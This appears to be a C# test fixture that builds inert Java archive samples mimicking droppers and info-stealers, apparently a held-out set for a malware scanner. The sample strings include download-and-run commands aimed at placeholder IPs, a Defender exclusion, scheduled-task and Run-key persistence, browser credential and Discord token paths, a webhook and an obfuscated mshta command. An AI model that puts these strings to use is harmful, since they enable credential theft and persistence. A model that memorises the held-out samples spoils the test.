using static ScanHost.TestKit.HeldOut.Eighth.EighthForms;
using static ScanHost.TestKit.HeldOut.Eighth.EighthJava;

namespace ScanHost.TestKit.HeldOut.Eighth;

/// <summary>Java archives that fetch, drop and start something. Their only method returns.</summary>
public sealed class JavaDroppers : EighthRound
{
    private const string Exec = "java/lang/Runtime.exec:(Ljava/lang/String;)Ljava/lang/Process;";
    private const string Open = "java/net/URL.openStream:()Ljava/io/InputStream;";
    private const string Copy = "java/nio/file/Files.copy:(Ljava/io/InputStream;Ljava/nio/file/Path;[Ljava/nio/file/CopyOption;)J";

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_Payment.jar", Jar("Main", ("Main.class", Class("Main", [Exec, Open, Copy, "java/lang/System.getProperty:(Ljava/lang/String;)Ljava/lang/String;"], "http://198.51.100.61/pay/svc.exe", "java.io.tmpdir", "\\svc.exe", "cmd.exe /c start /b ", "powershell -w hidden -ep bypass -c Add-MpPreference -ExclusionPath $env:TEMP"))));
        yield return ("Swift_Copy_pdf.jar", Jar("carLambo.Main", ("carLambo/Main.class", Class("carLambo/Main", [Exec, "java/net/Socket.<init>:(Ljava/lang/String;I)V", "java/nio/file/Files.copy:(Ljava/nio/file/Path;Ljava/nio/file/Path;[Ljava/nio/file/CopyOption;)Ljava/nio/file/Path;", "java/awt/Robot.createScreenCapture:(Ljava/awt/Rectangle;)Ljava/awt/image/BufferedImage;"], "strigoi.example", "schtasks /create /sc minute /mo 30 /tn Skype /tr \"", "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "wmic /node:. /namespace:'\\\\root\\cimv2' path win32_logicaldisk get volumeserialnumber", "reg add", "javaw -jar", "keylogger", "chrome-pass", "firefox-pass", "rev-proxy")), ("carLambo/sgfsdg.class", Class("carLambo/sgfsdg", ["com/sun/jna/Native.load:(Ljava/lang/String;Ljava/lang/Class;)Lcom/sun/jna/Library;"], "user32", "lock.file")), ("carLambo/resources/config.txt", Utf8(Convert.ToBase64String(Noise(400, 7))))));
        yield return ("OptiBoost-1.20.jar", Jar("net.fabricmc.Loader", ("fabric.mod.json", Utf8("{\"schemaVersion\":1,\"id\":\"optiboost\",\"version\":\"1.2.0\",\"name\":\"OptiBoost\",\"entrypoints\":{\"main\":[\"dev.opti.Boost\"]}}")), ("dev/opti/Boost.class", Class("dev/opti/Boost", ["java/net/URLClassLoader.<init>:([Ljava/net/URL;)V", "java/lang/reflect/Method.invoke:(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", "net/minecraft/class_320.method_1674:()Ljava/lang/String;", "java/net/HttpURLConnection.setRequestMethod:(Ljava/lang/String;)V"], "https://discord.com/api/webhooks/0000/example-not-real", "\\discord\\Local Storage\\leveldb", "\\Google\\Chrome\\User Data\\Default\\Login Data", "\\.feather\\accounts.json", "launcher_accounts.json", "{\"content\":\"```token: %s```\"}", Convert.ToBase64String(Utf8("http://192.0.2.88/stage2.jar"))))));
        var key = Turned(Utf8("cmd /c mshta http://192.0.2.41/j"), 19);
        yield return ("Scan_20261126.pdf.jar", Jar("a.a.a", ("a/a/a.class", Class("a/a/a", ["java/lang/ClassLoader.defineClass:(Ljava/lang/String;[BII)Ljava/lang/Class;", "java/lang/Class.getResourceAsStream:(Ljava/lang/String;)Ljava/io/InputStream;", "javax/crypto/Cipher.doFinal:([B)[B", "java/lang/Class.forName:(Ljava/lang/String;)Ljava/lang/Class;", "java/lang/Class.getMethod:(Ljava/lang/String;[Ljava/lang/Class;)Ljava/lang/reflect/Method;"], "AES/ECB/PKCS5Padding", "/a/l", "emitnuR.gnal.avaj", "cexe", Convert.ToHexString(key))), ("a/a/b.class", Class("a/a/b", ["a/a/a.a:(Ljava/lang/String;)Ljava/lang/String;"], "\u0001\u0002lI1", "IllIlI")), ("a/l", Noise(42000, 15))));
    }
}
